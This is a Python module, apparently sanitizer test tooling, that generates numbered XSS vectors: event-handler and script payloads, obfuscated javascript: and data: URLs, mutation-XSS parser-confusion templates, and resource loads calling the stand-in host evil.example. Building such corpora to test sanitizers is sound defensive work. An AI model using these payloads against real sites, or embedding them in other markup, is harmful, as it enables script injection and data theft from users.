"""Attacks by markup, made by rule: a browser that is shown one as it is does harm, or one that reads it in
another way than the cleaner does (`CONFUSED`).

A vector carries a number: it calls alert(number), asks for https://evil.example/number, or leaves a scheme or
a handler behind that would. So whatever happens can be told by the vector that did it.
"""

from __future__ import annotations

from itertools import product

RUN = "alert({n})"
AWAY = "https://evil.example/{n}"

ON_LOAD = (
    "<img src=x onerror={run}>",
    "<IMG SRC=x OnErRoR={run}>",
    "<img/src/onerror={run}>",
    "<img src=x onerror\n=\n{run}>",
    '<img src="x` `"onerror={run}>',
    "<img src='x'onerror='{run}'//>",
    '<img """><img src=x onerror="{run}">',
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><image href=x onerror={run}>",
    "<svg><style onload={run}></style>",
    "<svg><script>{run}</script></svg>",
    "<svg><script>&#97;lert({n})</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributename=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text y=20>x</text></a>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<iframe onload={run}></iframe>",
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "<iframe src=javascript:parent.{run}></iframe>",
    "<embed src=javascript:parent.{run}>",
    "<object data=x onerror={run}></object>",
    "<video src=x onerror={run}></video>",
    "<video><source onerror={run} src=x></video>",
    "<audio src=x onerror={run}></audio>",
    "<input autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<select autofocus onfocus={run}></select>",
    "<button autofocus onfocus={run}>x</button>",
    "<a href=# autofocus onfocus={run}>x</a>",
    "<p tabindex=1 autofocus onfocus={run}>x</p>",
    "<details open ontoggle={run}>x</details>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=data:text/css, onload={run}>",
    "<script>{run}</script>",
    "<script type=module>{run}</script>",
    "<SCRIPT\t>{run}</SCRIPT >",
    "<script/x>{run}</script>",
    "<script src=data:text/javascript,{run}></script>",
    "<<script>{run}//<</script>",
    "<scr\0ipt>x</script><script>{run}</script>",
    "<x><script>{run}</script>",
    "</p><script>{run}</script>",
    '"><script>{run}</script>',
    "'><img src=x onerror={run}>",
    "--><img src=x onerror={run}>",
    "]]><img src=x onerror={run}>",
    "</title><img src=x onerror={run}>",
    "</textarea><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<? foo=><img src=x onerror={run}>?>",
    "<table><img src=x onerror={run}></table>",
    "<table background=x><td><img src=x onerror={run}>",
    "<frameset onload={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<p style=animation-name:x onanimationstart={run}></p><style>@keyframes x{{}}</style>",
    "<p title='<!--'><img src=x onerror={run}><p title='-->'>",
)
RAW = ("style", "noscript", "noembed", "noframes", "iframe", "textarea", "title", "xmp", "template", "select")
FOREIGN = ("svg", "math", "svg><desc", "svg><foreignObject", "math><mtext", "math><annotation-xml", "table")
# An attribute in one way of reading, an end of raw text and what runs after it in the other.
CONFUSION = '<{foreign}><{raw}><a title="</{raw}><img src=x onerror={run}>">x</a>'
ON_WISH = tuple(
    f"<{tag} {event}={{run}}>x</{tag}>"
    for tag, event in (
        *product(("p", "a", "b", "div", "span", "blockquote"), ("onclick", "onmouseover", "onpointerenter")),
        *product(("h2", "li", "pre"), ("oncontextmenu", "onfocusin", "ontouchstart", "onwheel")),
        *product(("em", "figure"), ("oncopy", "ondragstart", "onkeydown", "onbeforeinput", "onanimationend")),
    )
)
SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "java&#x09;script:{run}",
    "java&NewLine;script&colon;{run}",
    "&#106;&#97;vascript:{run}",
    "&#0000106avascript:{run}",
    "javascript&#58;{run}",
    "javascript://x%0a{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
)
CARRIERS = (
    '<a href="{url}">x</a>',
    '<a href="{url}" target=_blank>x</a>',
    '<form action="{url}"><input type=submit></form>',
    '<form><button formaction="{url}">x</button></form>',
    '<svg><a xlink:href="{url}"><text y=20>x</text></a></svg>',
    '<map><area href="{url}" shape=default></map>',
)
LOADS = (
    "<img src={away}>",
    "<img srcset='{away} 1x'>",
    "<img src=//evil.example/{n}>",
    "<img src=\\\\evil.example/{n}>",
    "<img src='http:/\\evil.example/{n}'>",
    "<picture><source srcset={away}><img></picture>",
    "<video poster={away}></video>",
    "<video src={away} autoplay muted></video>",
    "<audio src={away} autoplay></audio>",
    "<input type=image src={away}>",
    "<iframe src={away}></iframe>",
    "<embed src={away}>",
    "<object data={away}></object>",
    "<link rel=stylesheet href={away}>",
    "<link rel=icon href={away}><link rel=preload as=image href={away}>",
    "<script src={away}></script>",
    "<style>@import '{away}';</style>",
    "<style>p{{background:url({away})}}</style><p>x</p>",
    "<p style='background:url({away})'>x</p>",
    "<p style='background:u\\72l({away})'>x</p>",
    "<ul style='list-style-image:url({away})'><li>x</ul>",
    "<p style=\"border-image:url('{away}')\">x</p>",
    "<style>@font-face{{font-family:x;src:url({away})}}p{{font-family:x}}</style><p>x</p>",
    "<svg><image href={away} width=9 height=9 /></svg>",
    "<svg><image xlink:href={away} width=9 height=9 /></svg>",
    "<svg><feImage href={away} /></svg><svg><filter id=f><feImage href={away} /></filter>"
    "<rect width=9 height=9 filter=url(#f) /></svg>",
    "<table background={away}><td>x</table>",
    "<body background={away}>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<base href=https://evil.example/><img src={n}>",
)


DIRECT = (
    *ON_LOAD,
    *ON_WISH,
    *(carrier.replace("{url}", url.replace('"', "'")) for carrier, url in product(CARRIERS, SCHEMES)),
    *LOADS,
)
CONFUSED = tuple(
    CONFUSION.replace("{foreign}", foreign).replace("{raw}", raw) for foreign, raw in product(FOREIGN, RAW)
)


def vectors() -> list[str]:
    """The direct ones first."""
    return [
        text.format(n=number, run=RUN.format(n=number), away=AWAY.format(n=number))
        for number, text in enumerate((*DIRECT, *CONFUSED))
    ]
